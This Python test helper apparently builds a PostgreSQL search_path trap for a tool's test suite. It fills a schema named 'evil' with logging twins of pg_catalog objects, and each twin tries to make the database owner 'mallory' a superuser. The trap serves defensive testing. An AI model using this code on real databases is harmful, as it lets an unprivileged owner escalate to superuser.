"""A database whose owner, no superuser, shadows pg_catalog: all of it, first in the path.

Every function, operator, type and relation of pg_catalog that can be imitated gets a twin of the
same name in schema `evil`, which tells the server's log that it was called, tries to make the
owner a superuser, and then does what the true one does. The path is that of the database, and of
the role that the machine connects as.

    shadow.cast(server, dbname)       # the database exists; its owner becomes `mallory`
    shadow.calls(server)              # what the log says: must be []
"""

import re

from .waiting import wait_for

OWNER, PASSWORD = "mallory", "of-mallory"

_ROLE = f"""
SET search_path = pg_catalog;
DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = '{OWNER}') THEN
  CREATE ROLE {OWNER} LOGIN PASSWORD '{PASSWORD}'; END IF; END $$;
"""

# What polymorphic arguments cannot be told apart by is left out; so is what PL/pgSQL cannot take.
_CAST = r"""
SET search_path = pg_catalog;
CREATE SCHEMA evil; SET check_function_bodies = off;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.note(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql
  SET search_path = pg_catalog AS $f$
BEGIN
  RAISE LOG 'SHADOWED % BY % IN %', what, current_user, left(current_query(), 300);
  BEGIN ALTER ROLE mallory SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $f$;
CREATE TABLE evil.refused (what pg_catalog.text, why pg_catalog.text);
DO $do$
DECLARE one record; made int := 0;
BEGIN
  -- Functions and aggregates; an aggregate's twin without arguments is an aggregate as well.
  FOR one IN SELECT p.oid, p.proname, p.prokind, p.proretset, p.pronargs,
      format_type(p.prorettype, NULL) AS gives, pg_get_function_identity_arguments(p.oid) AS args,
      (SELECT string_agg(format_type(t, NULL), ', ' ORDER BY n) FROM unnest(p.proargtypes::oid[])
        WITH ORDINALITY a(t, n)) AS types,
      (SELECT string_agg('$' || n, ', ') FROM generate_series(1, p.pronargs) n) AS called,
      p.provariadic <> 0 AS variadic
    FROM pg_proc p JOIN pg_type r ON r.oid = p.prorettype
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind IN ('f', 'a', 'w')
      AND NOT EXISTS (SELECT 1 FROM unnest(p.proargtypes::oid[] || p.prorettype) t
        JOIN pg_type y ON y.oid = t WHERE y.typtype = 'p' AND y.typname NOT IN ('record', 'void',
          'anyelement', 'anyarray', 'anynonarray', 'anyenum', 'anycompatible',
          'anycompatiblearray', 'anyrange'))
      AND NOT (p.prokind <> 'f' AND p.pronargs = 0)
    LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s%s LANGUAGE plpgsql AS $e$'
        ' BEGIN PERFORM evil.note(%L); %s; END $e$', one.proname,
        CASE WHEN one.variadic THEN regexp_replace(one.types, '(.*, )?([^,]*)$', '\1VARIADIC \2')
          ELSE one.types END,
        CASE WHEN one.proretset THEN 'SETOF ' ELSE '' END, one.gives,
        one.proname || '(' || one.args || ')',
        CASE WHEN one.prokind <> 'f' THEN 'RETURN $1'
          WHEN one.gives = 'void' THEN format('PERFORM pg_catalog.%I(%s); RETURN', one.proname, one.called)
          WHEN one.proretset THEN 'RETURN'
          ELSE format('RETURN pg_catalog.%I(%s)', one.proname,
            CASE WHEN one.variadic THEN regexp_replace(one.called, '([^,]*)$', 'VARIADIC \1')
              ELSE one.called END) END);
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN INSERT INTO evil.refused VALUES (one.proname, SQLERRM);
    END;
  END LOOP;
  -- Of what takes "any", which PL/pgSQL does not, twins that fit better.
  EXECUTE $e$CREATE FUNCTION evil.format(text, VARIADIC text[]) RETURNS text LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.note('format'); RETURN pg_catalog.format($1, VARIADIC $2); END $b$;
    CREATE FUNCTION evil.concat(VARIADIC text[]) RETURNS text LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.note('concat'); RETURN pg_catalog.concat(VARIADIC $1); END $b$;
    CREATE FUNCTION evil.counted(int8) RETURNS int8 LANGUAGE plpgsql AS
    $b$ BEGIN PERFORM evil.note('count(*)'); RETURN $1 OPERATOR(pg_catalog.+) 1; END $b$;
    CREATE AGGREGATE evil.count(*) (SFUNC = evil.counted, STYPE = int8, INITCOND = '0')$e$;
  -- Operators.
  FOR one IN SELECT o.oid, o.oprname, format_type(nullif(o.oprleft, 0), NULL) AS l,
      format_type(o.oprright, NULL) AS r, format_type(o.oprresult, NULL) AS gives
    FROM pg_operator o WHERE o.oprnamespace = 'pg_catalog'::regnamespace
      AND NOT EXISTS (SELECT 1 FROM pg_type y WHERE y.oid IN (o.oprleft, o.oprright, o.oprresult)
        AND y.typtype = 'p' AND y.typname NOT IN ('record', 'anyelement', 'anyarray',
          'anynonarray', 'anyenum', 'anycompatible', 'anycompatiblearray'))
    LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION evil.operator_%s(%s%s) RETURNS %s LANGUAGE plpgsql AS $e$'
        ' BEGIN PERFORM evil.note(%L); RETURN %s OPERATOR(pg_catalog.%s) %s; END $e$', one.oid,
        coalesce(one.l || ', ', ''), one.r, one.gives, 'operator ' || one.oprname,
        CASE WHEN one.l IS NULL THEN '' ELSE '$1' END, one.oprname,
        CASE WHEN one.l IS NULL THEN '$1' ELSE '$2' END);
      EXECUTE format('CREATE OPERATOR evil.%s (%s RIGHTARG = %s, FUNCTION = evil.operator_%s)',
        one.oprname, coalesce('LEFTARG = ' || one.l || ',', ''), one.r, one.oid);
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN INSERT INTO evil.refused VALUES (one.oprname, SQLERRM);
    END;
  END LOOP;
  -- Types, which are looked up by name in a cast; relations.
  FOR one IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace
      AND typtype IN ('b', 'r') AND typname !~ '^_' LOOP
    BEGIN
      EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.note(%L))', one.typname,
        one.typname, 'type ' || one.typname);
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN INSERT INTO evil.refused VALUES (one.typname, SQLERRM);
    END;
  END LOOP;
  FOR one IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace
      AND relkind IN ('r', 'v') AND RELATIONS LOOP
    BEGIN
      EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%I WHERE evil.note(%L)',
        one.relname, one.relname, 'relation ' || one.relname);
      EXECUTE format('GRANT SELECT ON evil.%I TO PUBLIC', one.relname);
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN INSERT INTO evil.refused VALUES (one.relname, SQLERRM);
    END;
  END LOOP;
  IF made < 3000 THEN RAISE EXCEPTION 'only % twins were made', made; END IF;
  DROP TABLE evil.refused;
END $do$;
"""


def cast(server, dbname, role=None, schema="evil", relations=True):
    """Give the database to the owner, who casts the shadows; `role` gets the path by name too."""
    script = re.sub(r"\bevil\b", schema, _CAST).replace("RELATIONS", str(relations).lower())
    server.sql(_ROLE)
    server.sql(f'ALTER DATABASE "{dbname}" OWNER TO {OWNER}')
    # By the owner: no superuser had a hand in it.
    server.sql(f"SET SESSION AUTHORIZATION {OWNER}; {script}", dbname=dbname)
    path = f'IN DATABASE "{dbname}" SET search_path = {schema}, evil, pg_catalog, public'
    server.sql(f"SET SESSION AUTHORIZATION {OWNER};"
               f" ALTER DATABASE {path[12:]}", dbname=dbname)
    if role:
        server.sql(f"ALTER ROLE {role} {path}")


def calls(server):
    """Each shadow that was called: (what, statement)."""
    with open(server.log_path, encoding="utf-8", errors="replace") as log:
        return re.findall(r"SHADOWED (.*) BY (\w+) IN (.*)", log.read())


def is_cast(server, dbname):
    """The trap is alive: a session that pins nothing falls into it."""
    before = len(calls(server))
    server.sql("SELECT lower('X')", dbname=dbname)
    wait_for(lambda: len(calls(server)) > before, 5, "a shadow is told")
    return server.value("SELECT rolsuper FROM pg_catalog.pg_roles"
                        " WHERE rolname OPERATOR(pg_catalog.=) 'mallory'::pg_catalog.name")
